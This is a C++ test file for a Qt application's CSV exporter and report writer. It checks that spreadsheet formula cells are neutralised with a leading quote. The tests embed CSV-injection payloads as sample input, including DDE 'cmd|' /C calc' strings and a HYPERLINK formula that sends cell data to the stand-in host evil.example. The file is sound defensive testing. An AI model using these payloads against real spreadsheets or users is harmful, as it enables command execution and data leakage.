#include "TestSupport.h"
#include "core/customers/CustomerRepository.h"
#include "core/report/Exporter.h"
#include "core/report/ReportWriter.h"
#include "core/util/CsvCell.h"

#include <QBuffer>
#include <catch2/catch.hpp>

using namespace threerings;

TEST_CASE("a CSV cell a spreadsheet would run as a formula gets a quote in front and is quoted")
{
    CHECK(csv::cell(QStringLiteral("=HYPERLINK(\"http://x\",\"a\")")) ==
          QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\",\"\"a\"\")\""));
    CHECK(csv::cell(QStringLiteral("+1+cmd|' /C calc'!A0")) == QStringLiteral("\"'+1+cmd|' /C calc'!A0\""));
    CHECK(csv::cell(QStringLiteral("-2+3")) == QStringLiteral("\"'-2+3\""));
    CHECK(csv::cell(QStringLiteral("@SUM(A1)")) == QStringLiteral("\"'@SUM(A1)\""));
    CHECK(csv::cell(QStringLiteral("\t=1")) == QStringLiteral("\"'\t=1\""));
    CHECK(csv::cell(QStringLiteral("\r=1")) == QStringLiteral("\"'\r=1\""));
    // Plain numbers run nothing and stay as they are (a stored phone, a signed amount).
    CHECK(csv::cell(QStringLiteral("-12")) == QStringLiteral("-12"));
    CHECK(csv::cell(QStringLiteral("+8613812345678")) == QStringLiteral("+8613812345678"));
    CHECK(csv::cell(QStringLiteral("-0.50")) == QStringLiteral("-0.50"));
    CHECK(csv::cell(QStringLiteral("-")) == QStringLiteral("\"'-\""));
    CHECK(csv::cell(QStringLiteral("-1.")) == QStringLiteral("\"'-1.\""));
    // Ordinary text is untouched; separators are quoted (a semicolon too, Excel's separator in
    // some locales).
    CHECK(csv::cell(QStringLiteral("刘敏 = 好")) == QStringLiteral("刘敏 = 好"));
    CHECK(csv::cell(QStringLiteral("a;=1+1")) == QStringLiteral("\"a;=1+1\""));
    CHECK(csv::cell(QString()) == QString());
}

TEST_CASE("the export of records neutralises formula cells and keeps numbers as numbers")
{
    test::TempDb t;
    CustomerRepository customers(*t.db, t.clock);
    Customer c;
    c.name = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    c.unit = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    c.address = QStringLiteral("-2+3");
    c.notes = QStringLiteral("\t=1+1");
    c.phoneMobile = QStringLiteral("13812345678");
    REQUIRE(customers.insert(c, {}).ok());
    // A negative number in a typed column is written as a number.
    REQUIRE(t.db->execScript(QStringLiteral("UPDATE customers SET revision = -3;")).ok());

    Exporter exporter(*t.db);
    QBuffer buffer;
    REQUIRE(buffer.open(QIODevice::WriteOnly));
    Exporter::Options o;
    o.actor = test::actorWith(QStringLiteral("supervisor"));
    o.kind = QStringLiteral("customers");
    o.format = Exporter::Format::Csv;
    REQUIRE(exporter.run(o, buffer).ok());
    const QStringList lines = QString::fromUtf8(buffer.data()).split(QStringLiteral("\r\n"));
    REQUIRE(lines.size() == 3);
    const QString& row = lines.at(1);
    INFO(row.toStdString());
    CHECK(row.contains(QStringLiteral(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",")));
    CHECK(row.contains(QStringLiteral(",\"'@SUM(1+1)*cmd|' /C calc'!A0\",")));
    CHECK(row.contains(QStringLiteral(",\"'-2+3\",")));
    CHECK(row.contains(QStringLiteral(",\"'\t=1+1\",")));
    CHECK(row.contains(QStringLiteral(",+8613812345678,")));
    CHECK(row.endsWith(QStringLiteral(",-3")));
    // No cell of the line starts a formula: every =, +, -, @ or tab opening a cell follows a quote.
    for (const QString& cell : row.split(QLatin1Char(',')))
        CHECK_FALSE(csv::startsFormula(cell.toUtf8()));
}

TEST_CASE("the report writer neutralises formula cells in texts and headings, numbers stay numbers")
{
    Report r;
    r.kind = QStringLiteral("tally");
    r.title = QStringLiteral("Sheet");
    ReportSection s;
    s.key = QStringLiteral("main");
    s.columns = {{QStringLiteral("name"), QStringLiteral("=cmd|' /C calc'!A0"), ReportColumn::Type::Text},
                 {QStringLiteral("n"), QStringLiteral("n"), ReportColumn::Type::Integer},
                 {QStringLiteral("x"), QStringLiteral("x"), ReportColumn::Type::Real},
                 {QStringLiteral("p"), QStringLiteral("p"), ReportColumn::Type::Percent}};
    s.rows = {{QStringLiteral("=HYPERLINK(\"http://evil.example\",\"Click\")"), -5, -0.5, -0.25},
              {QStringLiteral("+SUM(1,2)"), 7, 1.0, 0.5},
              {QStringLiteral("@A1"), 0, 0.0, 0.0},
              {QStringLiteral("\r-1"), 1, 1.0, 1.0}};
    r.sections = {s};
    QBuffer out;
    REQUIRE(out.open(QIODevice::WriteOnly));
    REQUIRE(ReportWriter::writeCsv(r, out).ok());
    const QStringList lines = QString::fromUtf8(out.data()).split(QStringLiteral("\r\n"));
    REQUIRE(lines.size() == 6);
    CHECK(lines.at(0) == QStringLiteral("\"'=cmd|' /C calc'!A0\",n,x,p"));
    CHECK(lines.at(1) ==
          QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Click\"\")\",-5,-0.50,-0.2500"));
    CHECK(lines.at(2) == QStringLiteral("\"'+SUM(1,2)\",7,1.00,0.5000"));
    CHECK(lines.at(3) == QStringLiteral("\"'@A1\",0,0.00,0.0000"));
    CHECK(lines.at(4) == QStringLiteral("\"'\r-1\",1,1.00,1.0000"));
}
